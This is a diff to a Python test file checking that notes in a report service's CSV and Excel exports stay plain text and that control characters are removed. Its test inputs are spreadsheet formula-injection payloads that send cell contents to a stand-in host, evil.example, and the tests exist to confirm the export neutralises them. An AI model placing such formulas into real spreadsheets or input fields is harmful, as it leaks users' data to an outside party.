@@ -13,7 +13,7 @@ from html.parser import HTMLParser
 
 import httpx
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 from pypdf import PdfReader
 
 from tests.support import BIN, Server, environment, new_area, token
@@ -233,13 +233,23 @@ def test_the_longest_note_and_an_extreme_measure_lay_out_on_paper(fresh):
     assert "Spring term 2025: 1e+12" in text  # the chart's text alternative
 
 
-def test_a_note_is_text_in_the_spreadsheets_never_a_formula_and_control_characters_do_not_break_them(fresh):
+def test_a_note_is_text_in_the_spreadsheets_never_a_formula(fresh):
     area = new_area(fresh)
-    note = '=HYPERLINK("http://evil.example/?"&A2,"Click")\u0007 bell'
+    note = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
     fresh.ok("reportActionProgress", {"actionId": area.action, "note": note}, area.lead)
     rows = list(csv.reader(io.StringIO(report(fresh, area.plan, area.lead, format="csv").text)))
     assert rows[1][rows[0].index("Latest note")] == "'" + note
     answer = report(fresh, area.plan, area.lead, format="xlsx")
     assert answer.status_code == 200
     cell = load_workbook(io.BytesIO(answer.content))["Actions"]["K2"]
-    assert (cell.data_type, cell.value) == ("s", note.replace("\u0007", ""))
+    assert (cell.data_type, cell.value) == ("s", note)
+
+
+def test_a_workbook_leaves_out_the_control_characters_older_records_may_hold():
+    # (a change's text is refused with them now; events recorded before that may hold them, and the log is kept)
+    from service.reports.formats import sheet
+
+    book = Workbook()
+    sheet(book.active, ["Latest note"], [['=HYPERLINK("http://evil.example/")\u0007 bell']])
+    cell = book.active["A2"]
+    assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("http://evil.example/") bell')
